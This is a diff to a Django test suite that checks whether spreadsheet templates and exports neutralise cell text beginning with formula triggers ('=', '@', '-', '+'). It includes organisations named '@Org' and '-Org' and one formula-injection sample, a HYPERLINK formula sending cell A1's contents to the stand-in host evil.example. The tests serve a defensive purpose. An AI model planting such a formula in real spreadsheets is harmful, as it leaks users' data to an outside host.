@@ -11,14 +11,24 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 from openpyxl import load_workbook
 
+from partners.models import Organisation, OrganisationType, Role
 from reporting import imports, resources, spreadsheets
-from reporting.models import Indicator, Location, Modality, ReportingPeriod, Sector
+from reporting.models import (
+    ActivityLine,
+    Indicator,
+    Location,
+    Modality,
+    PopulationType,
+    ReportingPeriod,
+    Sector,
+)
 from reporting.workbooks import build_template, template_filename
 
-from .factories import LineFactory, PeriodFactory, ReportFactory
+from .factories import LineFactory, PeriodFactory, ReportFactory, UserFactory
 
 SEPTEMBER = dt.date(2023, 9, 1)
 AUGUST = dt.date(2023, 8, 1)
@@ -236,7 +246,8 @@ class TestPrefill:
         assert protection_row["Girls"] == 10
         assert protection_row["Total monthly beneficiaries"] == first.total_monthly
         assert protection_row["Quantity"] is None
-        assert protection_row["Description"] == "=1+1 talleres"  # text, not a formula
+        # Text, never a formula: neutralised as in the exports (the importer takes it off).
+        assert protection_row["Description"] == "'=1+1 talleres"
         description = resources.HEADERS.index("Description") + 1
         assert sheet.cell(row=4, column=description).data_type == "s"
         assert health_row["Sector"] == "HEA"
@@ -259,7 +270,7 @@ class TestPrefill:
         assert protection["indicator"] == august_lines[0].indicator.code
         assert protection["district"] == "150122"
         assert protection["girls"] == 10
-        assert protection["description"] == "=1+1 talleres"
+        assert protection["description"] == "'=1+1 talleres"
 
     def test_the_importer_plans_it_without_errors(self, org_a, period, alice, august_lines):
         content = build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)
@@ -287,6 +298,126 @@ class TestPrefill:
     def test_it_reads_lines_in_one_query(self, org_a, august_lines, django_assert_num_queries):
         with django_assert_num_queries(5):  # lines, sectors, indicators, places, organisations
             build_template(organisation=org_a, month=SEPTEMBER, prefill_from=AUGUST)
+
+
+# Text a spreadsheet would run as a formula: "@Org" reports, with "-Org" as implementing partner
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ver detalle")'
+LINE_FIELDS = ("indicator__code", "department__code", "location__code", "population_type",
+               "modality", "implementing_partner__acronym", "girls", "boys", "women", "men",
+               "other", "new_beneficiaries", "total_monthly", "quantity", "cash_usd",
+               "description")
+
+
+def lines_of(organisation, month) -> list[tuple]:
+    return sorted(
+        ActivityLine.objects.filter(report__organisation=organisation, report__period__month=month)
+        .values_list("report__sector__code", *LINE_FIELDS),
+        key=str,
+    )
+
+
+@pytest.fixture
+def at_org(db):
+    """An organisation whose acronym and name a spreadsheet would read as formulas."""
+    return Organisation.objects.create(
+        acronym="@Org", name="@Org Asociación", short_name="@Org", type=OrganisationType.NNGO)
+
+
+@pytest.fixture
+def minus_org(db):
+    return Organisation.objects.create(
+        acronym="-Org", name="-Org Perú", short_name="-Org", type=OrganisationType.RMO)
+
+
+@pytest.fixture
+def olga(at_org):
+    """A reporter of @Org."""
+    return UserFactory(username="olga", organisation=at_org, role=Role.REPORTER)
+
+
+@pytest.fixture
+def formula_lines(at_org, minus_org, protection, august, olga):
+    report = ReportFactory(organisation=at_org, sector=protection, period=august)
+    tumbes = Location.objects.get(code="24")
+    return [
+        LineFactory(report=report, description=HYPERLINK, implementing_partner=minus_org),
+        LineFactory(report=report, description="- talleres en Lima\n- charlas",
+                    population_type=PopulationType.TRANSIT),
+        LineFactory(report=report, department=tumbes, location=tumbes,
+                    description="+51 972 000 111, coordinación", implementing_partner=at_org),
+    ]
+
+
+def prefilled(client, user) -> bytes:
+    client.force_login(user)
+    response = client.get(URL, {"period": "2023-09", "prefill": "1"})
+    assert response.status_code == 200
+    return response.content
+
+
+def activity_rows(workbook) -> list[dict]:
+    sheet = workbook["Activities"]
+    return [
+        dict(zip((column.field for column in resources.COLUMNS), row, strict=True))
+        for row in sheet.iter_rows(min_row=3, max_col=len(resources.COLUMNS))
+    ]
+
+
+@pytest.mark.django_db
+class TestTextThatLooksLikeAFormula:
+    def test_prefilled_cells_are_neutralised_as_in_the_exports(
+        self, client, olga, period, formula_lines
+    ):
+        workbook = open_workbook(prefilled(client, olga))
+
+        rows = activity_rows(workbook)
+        assert len(rows) == 3
+        assert sorted(row["description"].value for row in rows) == sorted(
+            resources.neutralise(line.description) for line in formula_lines)
+        assert "'" + HYPERLINK in [row["description"].value for row in rows]
+        assert {row["organisation"].value for row in rows} == {"'@Org"}
+        assert {row["implementing_partner"].value for row in rows} == {"'-Org", "'@Org", None}
+        for row in rows:
+            for cell in row.values():
+                assert cell.data_type != "f"
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(resources.FORMULA_TRIGGERS), cell.value
+
+    def test_every_name_on_the_lists_sheet_is_neutralised(self, client, olga, minus_org, period):
+        workbook = open_workbook(prefilled(client, olga))
+
+        assert listed(workbook, "ORGANISATION_LIST") == ["'@Org"]
+        assert {"'-Org", "'@Org", "HIAS"} <= set(listed(workbook, "PARTNER_LIST"))
+        texts = [cell.value for row in workbook["Lists"].iter_rows() for cell in row
+                 if isinstance(cell.value, str)]
+        assert {"'-Org Perú", "'@Org Asociación"} <= set(texts)
+        assert [text for text in texts if text.startswith(resources.FORMULA_TRIGGERS)] == []
+
+    def test_a_prefilled_name_is_an_entry_of_its_drop_down_list(
+        self, client, olga, period, formula_lines
+    ):
+        workbook = open_workbook(prefilled(client, olga))
+
+        organisations = listed(workbook, "ORGANISATION_LIST")
+        partners = listed(workbook, "PARTNER_LIST")
+        for row in activity_rows(workbook):
+            assert row["organisation"].value in organisations
+            assert row["implementing_partner"].value in [*partners, None]
+
+    def test_uploaded_back_unchanged_it_gives_the_same_lines(
+        self, client, olga, at_org, period, formula_lines
+    ):
+        content = prefilled(client, olga)
+
+        response = client.post(
+            "/imports/", {"file": SimpleUploadedFile("gtrm-actividades.xlsx", content)})
+        assert response.status_code == 302, response.content[:500]
+        response = client.post(response.url.rstrip("/") + "/confirm/")
+        assert response.status_code == 302
+
+        assert lines_of(at_org, SEPTEMBER) == lines_of(at_org, AUGUST)
+        assert HYPERLINK in [line[-1] for line in lines_of(at_org, SEPTEMBER)]
 
 
 @pytest.mark.django_db
